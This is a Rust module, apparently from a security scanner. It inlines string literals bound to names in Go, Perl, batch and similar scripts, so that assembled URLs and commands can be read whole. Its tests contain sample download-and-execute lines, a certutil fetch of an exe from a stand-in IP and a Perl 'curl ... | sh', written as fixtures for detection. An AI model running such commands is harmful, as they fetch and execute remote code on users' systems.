//! Names bound to literal strings, put in where they are used, for the
//! languages read without a grammar (Go, Ruby, Perl, PHP, Lua, Windows
//! batch...): `svc := "https://x.test/"` ... `http.Post(svc + p, ...)`
//! reads `http.Post("https://x.test/" + p, ...)`, and `set U=http://...`
//! ... `certutil -f %U%/a.exe` reads `certutil -f http://.../a.exe`.
//! Lines are kept, so line numbers hold.
//!
//! Pure, and bounded: at most [`MAX_BINDINGS`] names, each value at most
//! [`MAX_VALUE`] bytes, the text grown by at most [`MAX_GROWTH`] bytes.

use std::borrow::Cow;

/// Names remembered per text.
const MAX_BINDINGS: usize = 256;
/// The longest value put in.
const MAX_VALUE: usize = 512;
/// How much longer than the source the text may grow: past it, names are
/// left as written (a name used a million times would else be copied a
/// million times).
const MAX_GROWTH: usize = 1 << 20;

/// How a bound name is written where it is used.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Name {
    /// A bare identifier (`svc`): replaced outside string literals, by
    /// the value quoted.
    Bare(String),
    /// A sigil name (`$svc`): replaced outside literals by the value
    /// quoted, inside double-quoted ones by the value.
    Sigil(String),
    /// A batch variable (`%U%`): replaced everywhere by the value.
    Percent(String),
}

/// `src` with each name bound to a literal string replaced by it, from
/// the line after its binding on (a later binding of the name wins).
pub fn bind_literals(src: &str) -> Cow<'_, str> {
    if !src.contains(['"', '\'', '=']) {
        return Cow::Borrowed(src);
    }
    let mut bound: Vec<(Name, String)> = Vec::new();
    let mut out = String::with_capacity(src.len());
    let mut changed = false;
    let mut read = 0;
    for line in src.split_inclusive('\n') {
        let grown = out.len().saturating_sub(read);
        read += line.len();
        let replaced = if bound.is_empty() || grown > MAX_GROWTH {
            Cow::Borrowed(line)
        } else {
            replace_names(line, &bound)
        };
        changed |= matches!(replaced, Cow::Owned(_));
        if let Some((name, value)) = binding(&replaced) {
            bound.retain(|(n, _)| *n != name);
            if bound.len() < MAX_BINDINGS && value.len() <= MAX_VALUE {
                bound.push((name, value));
            }
        }
        out.push_str(&replaced);
    }
    if changed {
        Cow::Owned(out)
    } else {
        Cow::Borrowed(src)
    }
}

/// The name and literal value `line` binds, if it is only a binding:
/// `name := "v"`, `const name = "v";`, `my $name = 'v';`, `set N=v`.
fn binding(line: &str) -> Option<(Name, String)> {
    let t = line.trim();
    if let Some(rest) = t
        .strip_prefix("set ")
        .or_else(|| t.strip_prefix("SET "))
        .or_else(|| t.strip_prefix("Set "))
    {
        let rest = rest.trim().trim_matches('"');
        let (name, value) = rest.split_once('=')?;
        return is_identifier(name)
            .then(|| (Name::Percent(format!("%{name}%")), value.to_string()));
    }
    let t = t.trim_end_matches(';').trim_end();
    let mut words = t;
    loop {
        let next = [
            "const ", "var ", "let ", "local ", "my ", "our ", "final ", "val ", "static ",
        ]
        .iter()
        .find_map(|k| words.strip_prefix(k));
        match next {
            Some(rest) => words = rest.trim_start(),
            None => break,
        }
    }
    let (name, value) = words.split_once(":=").or_else(|| words.split_once('='))?;
    let name = name.trim();
    let value = value.trim();
    let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let inner = value.strip_prefix(quote)?.strip_suffix(quote)?;
    if inner.contains([quote, '\\']) {
        return None;
    }
    let name = match name.strip_prefix('$') {
        Some(bare) if is_identifier(bare) => Name::Sigil(name.to_string()),
        None if is_identifier(name) => Name::Bare(name.to_string()),
        _ => return None,
    };
    Some((name, inner.to_string()))
}

fn is_identifier(s: &str) -> bool {
    s.chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// `line` with the bound names replaced.
fn replace_names<'l>(line: &'l str, bound: &[(Name, String)]) -> Cow<'l, str> {
    let mut out = String::with_capacity(line.len());
    let mut quote: Option<char> = None;
    let mut chars = line.char_indices().peekable();
    let mut changed = false;
    while let Some((i, c)) = chars.next() {
        let rest = &line[i..];
        if c == '%' {
            if let Some((name, value)) = bound
                .iter()
                .find(|(n, _)| matches!(n, Name::Percent(p) if rest.starts_with(p.as_str())))
            {
                let Name::Percent(p) = name else { continue };
                out.push_str(value);
                skip(&mut chars, p.len() - 1);
                changed = true;
                continue;
            }
        }
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) if c == '\\' => {
                out.push(c);
                if let Some((_, next)) = chars.next() {
                    out.push(next);
                }
                continue;
            }
            None if matches!(c, '"' | '\'' | '`') => quote = Some(c),
            _ => {}
        }
        let starts_word = line[..i]
            .chars()
            .next_back()
            .is_none_or(|p| !(p.is_ascii_alphanumeric() || matches!(p, '_' | '.' | '$' | '%')));
        if starts_word && (c == '$' || c.is_ascii_alphabetic() || c == '_') {
            let len = rest
                .char_indices()
                .skip(1)
                .find(|(_, ch)| !(ch.is_ascii_alphanumeric() || *ch == '_'))
                .map_or(rest.len(), |(j, _)| j);
            let word = &rest[..len];
            let after = rest[len..].trim_start();
            // Not a call, a field, or the name bound again.
            let rebound = after.starts_with('=') && !after.starts_with("==");
            let used = !after.starts_with(['(', '.', ':']) && !rebound;
            let hit = bound.iter().find(|(n, _)| match n {
                Name::Bare(b) => quote.is_none() && b == word,
                Name::Sigil(s) => s == word && quote != Some('\''),
                Name::Percent(_) => false,
            });
            if let (true, Some((_, value))) = (used, hit) {
                if quote.is_some() {
                    out.push_str(value);
                } else {
                    out.push('"');
                    out.push_str(value);
                    out.push('"');
                }
                skip(&mut chars, word.chars().count() - 1);
                changed = true;
                continue;
            }
        }
        out.push(c);
    }
    if changed {
        Cow::Owned(out)
    } else {
        Cow::Borrowed(line)
    }
}

fn skip(chars: &mut std::iter::Peekable<std::str::CharIndices<'_>>, n: usize) {
    for _ in 0..n {
        chars.next();
    }
}

#[cfg(test)]
mod tests {
    use super::bind_literals;

    #[test]
    fn names_bound_to_literals_read_as_their_values() {
        let go = "const svc = \"https://embed.x.test/v1/\"\nfunc f() {\n\treq, _ := http.NewRequest(http.MethodPut, svc+rel, body)\n}\n";
        assert!(bind_literals(go)
            .contains("http.NewRequest(http.MethodPut, \"https://embed.x.test/v1/\"+rel, body)"));
        let batch = "set U=http://198.51.100.7/t\nset T=%TEMP%\\f.exe\ncertutil -urlcache -split -f %U%/f.exe %T%\n";
        assert!(
            bind_literals(batch)
                .contains("certutil -urlcache -split -f http://198.51.100.7/t/f.exe %TEMP%\\f.exe"),
            "{}",
            bind_literals(batch)
        );
        let perl = "my $h = 'c.x.test';\nsystem(\"curl https://$h/p | sh\");\n";
        assert!(bind_literals(perl).contains("system(\"curl https://c.x.test/p | sh\")"));
    }

    #[test]
    fn a_name_used_without_end_grows_the_text_a_bounded_amount() {
        let value = "v".repeat(500);
        let uses = "x,".repeat(200_000);
        let src = format!("x = \"{value}\"\n{}\n", uses.replace(",,", ",\n"));
        let src = src.replace(',', ",\n");
        let out = bind_literals(&src);
        assert!(
            out.len() <= src.len() + super::MAX_GROWTH + 4096,
            "{}",
            out.len()
        );
        assert!(out.contains(&format!("\"{value}\"")));
    }

    #[test]
    fn calls_fields_rebindings_and_other_literals_are_left_alone() {
        let src = "name = \"a\"\nname(\"x\")\nobj.name = 1\nname = \"b\"\nputs 'name'\nputs name\n";
        let out = bind_literals(src);
        assert!(
            out.contains("name(\"x\")") && out.contains("obj.name = 1"),
            "{out}"
        );
        assert!(
            out.contains("puts 'name'") && out.ends_with("puts \"b\"\n"),
            "{out}"
        );
        let plain = "x := compute()\nfmt.Println(x)\n";
        assert_eq!(bind_literals(plain), plain);
    }
}
